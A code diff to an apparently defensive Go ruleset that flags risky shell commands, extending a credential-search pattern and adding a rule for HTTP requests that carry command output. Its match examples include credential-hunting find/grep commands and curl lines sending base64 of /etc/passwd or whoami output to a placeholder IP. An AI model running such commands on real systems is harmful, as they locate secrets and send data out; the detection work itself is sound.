@@ -48,7 +48,7 @@ var dataRules = []Rule{
 	{
 		ID: "secret-hunt", Risk: effect.High, Dimension: effect.Disclosure, Technique: "T1552.001", Programs: "find fd fdfind",
 		Words: `^\w+\s(.*\s)?(/|/home|/root|/Users|/home/\*|~|/mnt|/srv)\s.*(\bid_(rsa|dsa|ecdsa|ed25519)|\.pem\b|\.key\b|\.p12\b|\.pfx\b|\.kdbx?\b|\.ppk\b|\.jks\b|\.ovpn\b|shadow|credentials|\.htpasswd|_history|` +
-			`wp-config|\.pgpass|\.netrc|\.git-credentials|(?i)passw(or)?d|secret|authorized_keys|\.env\b|\.aws\b|\.kube\b|kubeconfig)`,
+			`wp-config|\.pgpass|\.netrc|\.git-credentials|(?i)passw(or)?d|secret|authorized_keys|\.env\b|\.aws\b|\.kube\b|\.ssh\b|\.gnupg\b|kubeconfig)`,
 		Match: []string{
 			"find / -name id_rsa", "find / -name '*.pem' -o -name '*.key'", "find /home -name .bash_history", "find / -type f -iname '*password*'",
 			"find /root /home -name '*.kdbx' 2>/dev/null",
@@ -60,6 +60,12 @@ var dataRules = []Rule{
 		Words:    `(?i)(passw(or)?d|pwd=|secret|api_?key|AKIA|aws_|private key|token|credential).*\s(/|/home|/root|/etc|/var|/opt|/srv|/var/www|/proc|/Users|/home/\S+|/var/www/\S*)/?(\s|$)`,
 		Match:    []string{"grep -r AKIA /", "grep -rni password /var/www", "rg -i 'api_key' /home", "grep -rE 'BEGIN (RSA )?PRIVATE KEY' /root"},
 		NotMatch: []string{"grep -rn password src", "grep -rn 'password' .", "grep root /etc/group", "grep -i token app.log"},
+	},
+	{
+		ID: "name-carries-data", Risk: effect.High, Dimension: effect.Disclosure, Technique: "T1041", Programs: "curl wget http",
+		Typed:    "https?://\\S*(\\$\\(|`)\\s*[^)`]*\\b(base64|xxd|od|hexdump|gzip|env|printenv|history|whoami|id|uname|hostname)\\b",
+		Match:    []string{`curl "http://192.0.2.1/?d=$(base64 -w0 /etc/passwd)"`, "curl http://192.0.2.1/`whoami`"},
+		NotMatch: []string{"curl https://example.com/$(cat VERSION)/x.tgz", "curl http://example.com/"},
 	},
 	{
 		ID: "name-carries-data", Risk: effect.High, Dimension: effect.Disclosure, Technique: "T1048.003", Programs: "dig nslookup host ping ping6 drill kdig resolvectl getent",
